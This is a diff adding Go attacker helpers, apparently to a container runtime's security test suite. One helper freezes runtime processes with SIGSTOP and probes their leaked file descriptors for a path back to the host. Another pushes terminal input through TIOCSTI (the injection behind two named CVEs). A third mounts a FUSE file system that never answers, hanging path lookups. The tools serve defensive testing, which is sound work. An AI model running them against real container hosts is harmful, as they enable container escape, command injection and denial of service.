@@ -1,0 +1,170 @@
+package main
+
+import (
+	"fmt"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// stopgrab is the attacker of security issue 11.1, 11.2 and 11.4, for
+// security.bats. Until STOP exists it watches its pid namespace for new
+// processes (the namespace's last pid plus one, polled in a tight loop,
+// as exewatch does) and stops each one with SIGSTOP the moment it
+// appears: a process the runtime sends into the container is then
+// frozen before its first instruction, as long as the attacker likes.
+// A process whose comm is USERPROG (the program exec was asked to run,
+// caught after its execve) is let go. Every other one is the runtime's:
+// the attacker tries PTRACE_SEIZE on it and reads its fds through
+// /proc/PID/fd; from each fd that is a directory it walks ".." as far as
+// it goes and looks for MARKER, a file that exists only on the host. It
+// leaves the process stopped. One line per finding, then a summary:
+//
+//	runtime PID COMM ptrace=ERR|ok fds=ERR|N
+//	fd PID N TARGET host=yes|no
+//	watched N processes, M runtime, K host
+func stopgrab(args []string) error {
+	if len(args) != 3 {
+		return fmt.Errorf("stopgrab: want STOPFILE MARKER USERPROG")
+	}
+	stop, marker, userProg := args[0], args[1], args[2]
+	self := os.Getpid()
+	seen := map[int]bool{self: true}
+	watched, runtimes, host := 0, 0, 0
+	last := lastPid()
+	check := time.Now()
+	for {
+		if time.Since(check) > 20*time.Millisecond {
+			if _, err := os.Stat(stop); err == nil {
+				break
+			}
+			if l := lastPid(); l > last+8 {
+				last = l - 1
+			}
+			check = time.Now()
+		}
+		for pid := last + 1; pid <= last+4; pid++ {
+			if seen[pid] {
+				continue
+			}
+			if err := unix.Kill(pid, unix.SIGSTOP); err == unix.ESRCH {
+				continue
+			}
+			seen[pid] = true
+			if pid > last {
+				last = pid
+			}
+			watched++
+			b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
+			comm := strings.TrimSpace(string(b))
+			if comm == userProg || comm == "" {
+				unix.Kill(pid, unix.SIGCONT)
+				continue
+			}
+			runtimes++
+			host += inspect(pid, comm, marker)
+		}
+	}
+	fmt.Printf("watched %d processes, %d runtime, %d host\n", watched, runtimes, host)
+	return nil
+}
+
+// inspect reports what the attacker gets of a stopped runtime process;
+// it returns how many of its fds led to the host.
+func inspect(pid int, comm, marker string) int {
+	ptrace := "ok"
+	if err := unix.PtraceSeize(pid); err != nil {
+		ptrace = errName(err)
+	} else {
+		unix.PtraceDetach(pid)
+	}
+	dir := "/proc/" + strconv.Itoa(pid) + "/fd"
+	ents, err := os.ReadDir(dir)
+	if err != nil {
+		fmt.Printf("runtime %d %s ptrace=%s fds=%s\n", pid, comm, ptrace, errName(unwrap(err)))
+		return 0
+	}
+	fmt.Printf("runtime %d %s ptrace=%s fds=%d\n", pid, comm, ptrace, len(ents))
+	host := 0
+	for _, e := range ents {
+		target, _ := os.Readlink(dir + "/" + e.Name())
+		found := "no"
+		if reachesHost(dir+"/"+e.Name(), marker) {
+			found = "yes"
+			host++
+		}
+		fmt.Printf("fd %d %s %s host=%s\n", pid, e.Name(), strings.ReplaceAll(target, " ", "_"), found)
+	}
+	return host
+}
+
+// reachesHost opens a stolen fd through its magic link and, if it is a
+// directory, climbs ".." to the top of its mount tree and looks for the
+// host's marker file there.
+func reachesHost(link, marker string) bool {
+	fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return false
+	}
+	defer unix.Close(fd)
+	up := strings.Repeat("../", 40)
+	var st unix.Stat_t
+	return unix.Fstatat(fd, up+strings.TrimPrefix(marker, "/"), &st, 0) == nil
+}
+
+func unwrap(err error) error {
+	if pe, ok := err.(*os.PathError); ok {
+		return pe.Err
+	}
+	if se, ok := err.(*os.SyscallError); ok {
+		return se.Err
+	}
+	return err
+}
+
+// tiocsti pushes TEXT and a newline into the input of the terminal on
+// fd 0 (CVE-2016-10124, CVE-2017-5226): if fd 0 is the caller's
+// controlling terminal, the caller's shell reads the text as typed. It
+// prints "tiocsti: ok" or the error.
+func tiocsti(args []string) error {
+	if len(args) != 1 {
+		return fmt.Errorf("tiocsti: want TEXT")
+	}
+	for _, c := range []byte(args[0] + "\n") {
+		b := c
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); e != 0 {
+			fmt.Printf("tiocsti: %s\n", errName(e))
+			return nil
+		}
+	}
+	fmt.Println("tiocsti: ok")
+	return nil
+}
+
+// fusehang mounts a FUSE file system on DIR and never answers the
+// kernel, not even its INIT: every lookup under DIR waits until the
+// connection goes (the container's own processes, and any process of
+// the runtime that resolves a path there). Needs CAP_SYS_ADMIN and
+// /dev/fuse. It prints "mounted" and sleeps.
+func fusehang(args []string) error {
+	if len(args) != 1 {
+		return fmt.Errorf("fusehang: want DIR")
+	}
+	fd, err := unix.Open("/dev/fuse", unix.O_RDWR, 0)
+	if err != nil {
+		return fmt.Errorf("open /dev/fuse: %w", err)
+	}
+	opts := fmt.Sprintf("fd=%d,rootmode=40000,user_id=0,group_id=0", fd)
+	if err := unix.Mount("hang", args[0], "fuse", 0, opts); err != nil {
+		return fmt.Errorf("mount fuse: %w", err)
+	}
+	fmt.Println("mounted")
+	for {
+		time.Sleep(time.Hour)
+	}
+}
+
